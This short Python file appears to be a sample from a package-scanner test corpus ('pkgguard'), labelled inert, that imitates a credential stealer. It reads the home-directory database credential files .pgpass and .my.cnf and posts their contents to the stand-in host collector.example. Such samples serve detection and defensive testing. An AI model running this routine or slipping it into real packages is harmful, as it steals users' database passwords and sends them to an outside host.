# pkgguard corpus 218 (credentials), modelled on [stealer-profile]; inert, never run.
import json
import os

import urllib3

found = {}
for name in (".pgpass", ".my.cnf"):
    path = os.path.join(os.path.expanduser("~"), name)
    if os.path.exists(path):
        with open(path) as f:
            found[name] = f.read()
urllib3.PoolManager().request("POST", "https://collector.example/db", body=json.dumps(found))
